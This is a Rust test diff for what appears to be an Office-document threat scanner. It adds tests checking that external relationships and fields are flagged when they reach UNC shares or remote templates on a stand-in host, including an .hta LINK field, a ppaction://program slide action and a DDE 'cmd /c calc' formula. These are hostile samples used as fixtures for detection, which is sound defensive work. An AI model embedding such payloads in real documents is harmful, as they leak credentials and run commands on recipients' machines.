@@ -239,3 +239,77 @@ fn a_ribbon_that_calls_a_macro_by_itself_is_reported() {
         assert_eq!(recorded.findings.iter().any(|f| f.id == "macros.auto-run"), reported, "{attributes} {with_macros}");
     }
 }
+
+#[test]
+fn a_share_is_reported_whatever_it_is_to_the_document() {
+    for (kind, target, id) in [
+        ("mailMergeSource", "file:///\\\\host.invalid\\a.csv", Some("ooxml.external-image")),
+        ("audio", "\\\\host.invalid\\a.mp3", Some("ooxml.external-image")),
+        ("aFChunk", "https://host.invalid/a.htm", Some("ooxml.external-template")),
+        ("transform", "https://host.invalid/a.xsl", Some("ooxml.external-template")),
+        ("video", "https://host.invalid/a", None),
+        ("mailMergeSource", "file:///C:\\a.csv", None),
+        ("hyperlink", "\\\\host.invalid\\a.docx", None),
+    ] {
+        let rels = relation(kind, target, "External");
+        let recorded = check(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
+        let found = recorded.findings.iter().find(|f| f.id.starts_with("ooxml.")).map(|f| f.id.to_string());
+        assert_eq!(found.as_deref(), id, "{kind} {target}");
+    }
+    let book = r#"<connections><connection id="1" odcFile="\\host.invalid\a.odc"/></connections>"#;
+    assert!(check(&[("xl/connections.xml", book.as_bytes())]).findings.iter().any(|f| f.id == "ooxml.external-image"));
+    let web = r#"<connections><connection id="1"><webPr url="https://host.invalid/"/></connection></connections>"#;
+    assert!(check(&[("xl/connections.xml", web.as_bytes())]).findings.is_empty());
+}
+
+#[test]
+fn fields_that_fetch_are_reported_as_relationships_are() {
+    for (code, id) in [
+        (r#"INCLUDEPICTURE "\\\\host.invalid\\a.png" \d"#, Some("ooxml.external-image high")),
+        (r#"INCLUDEPICTURE "https://host.invalid/a.png""#, Some("ooxml.external-image low")),
+        (r#"INCLUDETEXT "https://host.invalid/a.docx""#, Some("ooxml.external-template high")),
+        (r#"LINK htmlfile "https://host.invalid/a.hta""#, Some("ooxml.external-template high")),
+        (r#"INCLUDEPICTURE "C:\\a.png""#, None),
+        (r#"HYPERLINK "https://host.invalid/""#, None),
+        ("PAGE", None),
+    ] {
+        let letters: String =
+            code.chars().map(|c| format!("<w:instrText>{c}</w:instrText>").replace('"', "&quot;")).collect();
+        let text = format!(
+            r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>{letters}<w:r><w:fldChar w:fldCharType="end"/></w:r>"#
+        );
+        let recorded =
+            check(&[("word/document.xml", text.replace("<w:instrText>&quot;<", "<w:instrText>\"<").as_bytes())]);
+        let found = recorded.findings.first().map(|f| format!("{} {}", f.id, f.severity));
+        assert_eq!(found.as_deref(), id, "{code}");
+    }
+}
+
+#[test]
+fn links_that_lead_elsewhere_than_to_a_page_are_parts() {
+    let rels = relation("hyperlink", "ms-word:ofe|u|https://host.invalid/a", "External");
+    let field = r#"<w:instrText>HYPER</w:instrText><w:instrText>LINK "odd:LAZARET" \o "tip: x"</w:instrText>"#;
+    let cell = r#"<row><c><f>HYPERLINK("\\host.invalid\a.lnk","x")</f></c></row>"#;
+    let recorded = check(&[
+        ("word/_rels/document.xml.rels", rels.as_bytes()),
+        ("word/document.xml", field.as_bytes()),
+        ("xl/worksheets/sheet1.xml", cell.as_bytes()),
+        ("word/_rels/a.rels", relation("hyperlink", "https://host.invalid/", "External").as_bytes()),
+    ]);
+    let links = recorded.parts.iter().filter(|p| p.role == Role::Link).map(|p| &recorded.bytes[&p.id][..]);
+    assert_eq!(
+        links.collect::<Vec<_>>(),
+        [&b"ms-word:ofe|u|https://host.invalid/a"[..], b"odd:LAZARET", b"\\\\host.invalid\\a.lnk"]
+    );
+}
+
+#[test]
+fn a_slide_that_runs_a_program_and_a_formula_that_asks_one_are_reported() {
+    let slide = |action: &str| format!(r#"<p:sld><a:hlinkMouseOver r:id="r2" action="ppaction://{action}"/></p:sld>"#);
+    for (action, reported) in [("program", true), ("hlinksldjump", false), ("hlinkshowjump?jump=nextslide", false)] {
+        let recorded = check(&[("ppt/slides/slide1.xml", slide(action).as_bytes())]);
+        assert_eq!(recorded.findings.iter().any(|f| f.id == "ooxml.program-action"), reported, "{action}");
+    }
+    let sheet = r#"<sheetData><c r="A1"><f>1+cmd|&apos;/c calc&apos;!A0</f></c></sheetData>"#;
+    assert_eq!(check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]).bytes("//dde"), b"cmd /c calc");
+}
